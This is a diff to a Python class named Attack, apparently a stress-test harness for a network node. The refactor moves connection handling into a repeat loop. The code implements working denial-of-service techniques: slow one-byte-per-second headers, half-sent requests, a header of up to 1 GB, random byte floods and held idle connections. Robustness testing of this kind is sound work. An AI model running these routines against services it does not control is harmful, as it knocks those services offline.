@@ -49,51 +49,47 @@ class Attack:
             self.ended.wait(0.01)
             return None
 
-    def random_bytes(self, target, chance):
+    def random_bytes(self, link, chance):
         """As many as the node takes, 1 MB at most."""
         self.count("random bytes: connections")
-        with self.connect(target) or socket.socket() as link:
-            size = chance.choice((1, 10, 100, 1000, 1_000_000))
-            sent = self.pour(link, chance.randbytes(size))
-            self.count("random bytes: bytes", sent)
+        size = chance.choice((1, 10, 100, 1000, 1_000_000))
+        sent = self.pour(link, chance.randbytes(size))
+        self.count("random bytes: bytes", sent)
 
-    def half_request(self, target, chance):
+    def half_request(self, link, chance):
         """The beginning of a request, and then nothing until the node closes."""
         self.count("half requests: connections")
-        with self.connect(target) or socket.socket() as link:
-            self.pour(link, REQUEST[: chance.randrange(1, len(REQUEST))])
-            self.await_close(link, "half requests: ended by the node")
+        self.pour(link, REQUEST[: chance.randrange(1, len(REQUEST))])
+        self.await_close(link, "half requests: ended by the node")
 
-    def slow_header(self, target, chance):
+    def slow_header(self, link, chance):
         """A byte a second."""
         self.count("slow headers: connections")
-        with self.connect(target) or socket.socket() as link:
-            for byte in REQUEST:
-                if self.ended.wait(1) or not self.pour(link, bytes((byte,))):
-                    break
-            else:
-                return
-            if not self.ended.is_set():
-                self.count("slow headers: ended by the node")
+        for byte in REQUEST:
+            if self.ended.wait(1) or not self.pour(link, bytes((byte,))):
+                break
+        else:
+            return
+        if not self.ended.is_set():
+            self.count("slow headers: ended by the node")
 
-    def endless_header(self, target, chance):
+    def endless_header(self, link, chance):
         """One header of up to 1 GB."""
         self.count("endless headers: connections")
-        with self.connect(target) or socket.socket() as link:
-            if not self.pour(link, b"GET / HTTP/1.1\r\nX-Long: "):
-                return
-            sent = 0
-            piece = b"x" * PIECE
-            while sent < GIGABYTE and not self.ended.is_set():
-                taken = self.pour(link, piece)
-                if not taken:
-                    self.count("endless headers: ended by the node")
-                    break
-                sent += taken
-            self.count("endless headers: bytes", sent)
+        if not self.pour(link, b"GET / HTTP/1.1\r\nX-Long: "):
+            return
+        sent = 0
+        piece = b"x" * PIECE
+        while sent < GIGABYTE and not self.ended.is_set():
+            taken = self.pour(link, piece)
+            if not taken:
+                self.count("endless headers: ended by the node")
+                break
+            sent += taken
+        self.count("endless headers: bytes", sent)
 
     def pour(self, link, data):
-        """How much of it the node took: 0 once it has closed."""
+        """How many bytes the node took: all, or 0 when it has closed."""
         try:
             link.sendall(data)
             return len(data)
@@ -131,14 +127,17 @@ class Attack:
                 held.pop(number).close()
                 self.count("idle: ended by the node")
         with self.lock:
-            self.counts[f"idle: held at once at port {target[1]}"] = most
+            self.counts[f"idle: held at once at {target[0]}:{target[1]}"] = most
         for link in held.values():
             link.close()
 
     def repeat(self, kind, target, number):
         chance = random.Random(f"{self.seed} {kind.__name__} {target} {number}")
         while not self.ended.is_set():
-            kind(target, chance)
+            link = self.connect(target)
+            if link is not None:
+                with link:
+                    kind(link, chance)
 
     def run(self):
         kinds = {
